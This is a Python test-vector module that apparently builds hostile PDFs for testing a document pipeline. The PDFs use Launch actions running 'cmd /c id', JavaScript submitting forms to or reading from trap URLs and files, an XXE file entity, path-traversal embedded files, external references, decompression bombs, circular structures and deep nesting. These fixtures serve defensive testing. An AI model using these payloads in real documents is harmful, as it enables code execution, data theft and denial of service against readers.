"""PDFs that act, reach out, or never end (ISO 32000-2)."""

import zlib
from collections.abc import Iterator, Sequence
from itertools import chain

from tests.vectors.media.hostile.case import Case, Traps

ONE_PAGE = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
DRAWS = "/Resources << /XObject << /X 5 0 R >> >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R {} >>"


def pdf(objects: Sequence[str | bytes], trailer: str = "") -> bytes:
    """Objects 1, 2, … with a table and a trailer; object 1 is the catalogue."""
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + (body.encode() if isinstance(body, str) else body) + b"\nendobj\n"
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    size = len(objects) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<< /Size {size} /Root 1 0 R {trailer} >>\nstartxref\n"
    return out + f"{end}{len(out)}\n%%EOF\n".encode()


def tree(*objects: str | bytes) -> bytes:
    """A PDF whose tree of pages begins with the first of these objects, number 2."""
    return pdf(["<< /Type /Catalog /Pages 2 0 R >>", *objects])


def stream(data: bytes, more: str = "", *, packed: int = 0) -> bytes:
    """A stream, `packed` times deflated."""
    for _ in range(packed):
        data = zlib.compress(data, 9)
    filters = f"/Filter [{'/FlateDecode ' * packed}]" if packed else ""
    return f"<< /Length {len(data)} {filters} {more} >>\nstream\n".encode() + data + b"\nendstream"


def one(
    page: str = "", catalogue: str = "", contents: bytes = b"0 0 9 9 re f", *more: str | bytes, trailer: str = ""
) -> bytes:
    """A PDF of one page: more of the page, of the catalogue, other contents; more objects from number 5."""
    root = f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>"
    pages = ONE_PAGE
    return pdf([root, pages, PAGE.format(page), stream(contents), *more], trailer)


def cases(traps: Traps) -> Iterator[Case]:
    """All of them, as letter.pdf."""
    for of, data in chain(_acting(traps), _outside(traps), _circles(), _bombs(), _shapes()):
        yield Case(of, "letter", "letter.pdf", data)


def _acting(traps: Traps) -> Iterator[tuple[str, bytes]]:
    http, file = traps.url(), traps.file("txt")
    actions = {
        "launch": f"/S /Launch /F ({file})", "launch: a program": "/S /Launch /Win << /F (cmd) /P (/c id) >>",
        "address": f"/S /URI /URI ({http})", "script": f"/S /JavaScript /JS (this.submitForm\\('{http}'\\))",
        "form sent": f"/S /SubmitForm /F << /FS /URL /F ({http}) >> /Fields []",
        "another document": f"/S /GoToR /F ({file}) /D [0 /Fit]", "embedded": "/S /GoToE /D [0 /Fit] /T << /R /C >>",
        "data brought in": f"/S /ImportData /F ({file})", "sound": "/S /Sound /Sound 4 0 R", "film": f"/S /Movie /T ({file})",
        "rendition": f"/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D ({http}) >> >>",
        "next without end": "/S /Named /N /NextPage /Next 5 0 R",
    }  # fmt: skip
    for what, action in actions.items():
        yield (
            f"PDF action: {what}",
            one(
                "/AA << /O 5 0 R >> /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A 5 0 R >>]",
                "/OpenAction 5 0 R",
                b"",
                f"<< {action} >>",
            ),
        )
    script = f"<< /S /JavaScript /JS (app.launchURL\\('{http}'\\); util.readFileIntoStream\\('{file}'\\)) >>"
    yield "PDF: scripts by name", one("", "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", b"", script)
    field = "<< /FT /Tx /T (a) /V (b) /Subtype /Widget /Rect [0 0 90 90] /AA << /K 5 0 R /F 5 0 R /C 5 0 R >> >>"
    yield (
        "PDF: forms",
        one("/Annots [6 0 R]", "/AcroForm << /Fields [6 0 R] /NeedAppearances true >>", b"", script, field),
    )
    xfa = (
        f'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><image href="{http}"/></template></xdp:xdp>'.encode()
    )
    yield "PDF: XFA", one("", "/AcroForm << /XFA 5 0 R >> /NeedsRendering true", b"", stream(xfa))
    entity = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://{file}">]><x>&a;</x>'.encode()
    yield "PDF: XMP with an entity", one("", "/Metadata 5 0 R", b"", stream(entity, "/Type /Metadata /Subtype /XML"))


def _outside(traps: Traps) -> Iterator[tuple[str, bytes]]:
    http, file = traps.url(), traps.file("txt")
    yield (
        "PDF: embedded files",
        one(
            "",
            "/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>",
            b"",
            stream(b"MZ planted"),
            f"<< /Type /Filespec /F (../../{file}) /EF << /F 5 0 R >> >>",
        ),
    )
    for where in (f"/F ({file})", f"/F << /FS /URL /F ({http}) >>", f"/F << /Type /Filespec /UF ({file}) >>"):
        yield ("PDF: external stream", tree(ONE_PAGE, PAGE.format(""), stream(b"", where)))
        image = "/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
        yield ("PDF: external picture", one(DRAWS, "", b"90 0 0 90 0 0 cm /X Do", stream(b"", f"{image} {where}")))
    form = f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F ({file}) /Page 0 >>"
    yield ("PDF: reference to a page elsewhere", one(DRAWS, "", b"/X Do", stream(b"0 0 1 1 re f", form)))
    opi = f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /OPI << /2.0 << /Type /OPI /F ({file}) >> >>"
    yield "PDF: OPI", one(DRAWS, "", b"/X Do", stream(b"0 0 1 1 re f", opi))
    rich = f"<< /Subtype /RichMedia /Rect [0 0 99 99] /RichMediaContent << /Assets << /Names [(a) << /F ({http}) >>] >> >> >>"
    yield "PDF: rich media", one(f"/Annots [{rich}]", "", b"")


def _circles() -> Iterator[tuple[str, bytes]]:
    form = "/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /X {} 0 R >> >>"
    yield ("PDF circle: form", one(DRAWS, "", b"/X Do", stream(b"/X Do " * 10, form.format(5))))
    two = (stream(b"/X Do " * 10, form.format(6)), stream(b"/X Do " * 10, form.format(5)))
    yield "PDF circle: two forms", one(DRAWS, "", b"/X Do", *two)
    yield ("PDF circle: pages", tree("<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"))
    yield (
        "PDF circle: parents",
        tree("<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>", "<< /Type /Page /Parent 2 0 R >>"),
    )
    yield "PDF circle: tables", one(trailer="/Prev 9")
    data = one()
    at = data.rindex(b"startxref\n")
    table = data[data.rindex(b"xref\n0") : at]
    yield "PDF circle: tables", one(trailer=f"/Prev {data.rindex(table)}")
    yield ("PDF circle: lengths", tree(ONE_PAGE, PAGE.format(""), b"<< /Length 4 0 R >>\nstream\nq\nendstream"))
    yield from _drawn_circles()


def _drawn_circles() -> Iterator[tuple[str, bytes]]:
    pattern = "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep .01 /YStep .01 /Resources << /Pattern << /P 5 0 R >> >>"
    yield (
        "PDF circle: pattern",
        one(
            "/Resources << /Pattern << /P 5 0 R >> >>",
            "",
            b"/Pattern cs /P scn 0 0 200 200 re f",
            stream(b"/Pattern cs /P scn 0 0 9 9 re f", pattern),
        ),
    )
    font = "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /Resources << /Font << /F 5 0 R >> >> >>"
    yield (
        "PDF circle: font",
        one(
            "/Resources << /Font << /F 5 0 R >> >>",
            "",
            b"BT /F 9 Tf (aaa) Tj ET",
            font,
            stream(b"BT /F 9 Tf (aaaa) Tj ET"),
        ),
    )
    yield (
        "PDF circle: outline",
        one("", "/Outlines << /First 5 0 R >>", b"", "<< /Title (a) /Next 5 0 R /First 5 0 R >>"),
    )


def _bombs() -> Iterator[tuple[str, bytes]]:
    yield "PDF bomb: operators", content(b"q 1 0 0 1 0 0 cm\n" * 2_000_000, 2)
    yield "PDF bomb: open strings", content(b"(" * 2_000_000, 1)
    yield "PDF bomb: open lists", content(b"[" * 2_000_000 + b"<<" * 100_000, 1)
    yield "PDF bomb: dashes", content(b"[.0001 .0001] 0 d 0 0 m 200 200 l S\n" * 3000, 1)
    yield "PDF bomb: paths", content(b"0 0 m " + b"200 200 l 0 3 l " * 500_000 + b"B*", 1)
    form = "/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /X {} 0 R >> >>"
    nested = [stream(b"/X Do " * 12, form.format(6 + n)) for n in range(9)]
    yield ("PDF bomb: forms of forms", one(DRAWS, "", b"/X Do", *nested, stream(b"0 0 9 9 re f", form.format(4))))
    for codec, extra in (
        ("FlateDecode", ""),
        ("JPXDecode", ""),
        ("JBIG2Decode", ""),
        ("CCITTFaxDecode", "/DecodeParms << /Columns 60000 /Rows 60000 /K -1 >>"),
        ("DCTDecode", ""),
        ("RunLengthDecode", ""),
    ):
        for side in (60_000, 2_000_000_000):
            image = f"/Type /XObject /Subtype /Image /Width {side} /Height {side} /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /{codec} {extra}"
            data = zlib.compress(bytes(1 << 20)) if codec == "FlateDecode" else bytes(500)
            yield (f"PDF bomb: {codec}", one(DRAWS, "", b"200 0 0 200 0 0 cm /X Do", stream(data, image)))
    soft = "/Type /XObject /Subtype /Form /BBox [0 0 2e9 2e9] /Group << /S /Transparency /I true >>"
    states = "/Resources << /ExtGState << /G << /SMask << /S /Luminosity /G 5 0 R >> >> >> >>"
    yield "PDF bomb: soft mask", one(states, "", b"/G gs 0 0 200 200 re f", stream(b"0 0 200 200 re f", soft))
    shade = "/Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceRGB /Domain [-1e9 1e9 -1e9 1e9] /Function 5 0 R >> >> >>"
    calc = stream(
        b"{ " + b"dup mul " * 10_000 + b"pop pop 1 1 1 }", "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]"
    )
    yield "PDF bomb: calculations", one(shade, "", b"/S sh", calc)
    yield (
        "PDF bomb: object stream",
        one("", "/Names 5 0 R", b"", stream(b"0 0 " * 100_000, "/Type /ObjStm /N 2000000000 /First 9 /Extends 5 0 R")),
    )


def content(data: bytes, packed: int) -> bytes:
    """A PDF whose page draws this."""
    return tree(ONE_PAGE, PAGE.format(""), stream(data, packed=packed))


def _shapes() -> Iterator[tuple[str, bytes]]:
    for area in (
        "0 0 1e9 1e9",
        "0 0 14400 14400",
        "0 0 .001 .001",
        "0 0 0 0",
        "9 9 -9 -9",
        "0 0 1e38 1",
        "0 0 nan nan",
        "0 0 1 100000",
    ):
        page = f"<< /Type /Page /Parent 2 0 R /MediaBox [{area}] /UserUnit 1000000 >>"
        yield ("PDF: absurd pages", tree(ONE_PAGE, page))
    for count in (0, -1, 201, 2_000_000_000):
        yield (
            "PDF: absurd counts",
            tree(f"<< /Type /Pages /Kids [3 0 R] /Count {count} >>", PAGE.format(""), stream(b"")),
        )
    yield (
        "PDF: absurd counts",
        tree(f"<< /Type /Pages /Kids [{'3 0 R ' * 100_000}] /Count 100000 >>", PAGE.format(""), stream(b"")),
    )
    yield "deep nesting: PDF", one("", "/A " + "[" * 50_000 + "]" * 50_000)
    yield "deep nesting: PDF", one("", "/A " + "<< /A " * 50_000 + ">>" * 50_000)
    kids = [f"<< /Type /Pages /Kids [{n + 1} 0 R] /Count 1 >>" for n in range(2, 3000)]
    yield "deep nesting: PDF pages", tree(*kids, PAGE.format(""))
    yield (
        "PDF: an empty password asked for",
        one(trailer="/Encrypt << /Filter /Standard /V 5 /R 6 /O () /U () /P -1 >>"),
    )
    yield "PDF: an unknown lock", one(trailer="/Encrypt << /Filter /Other /V 9 >>")
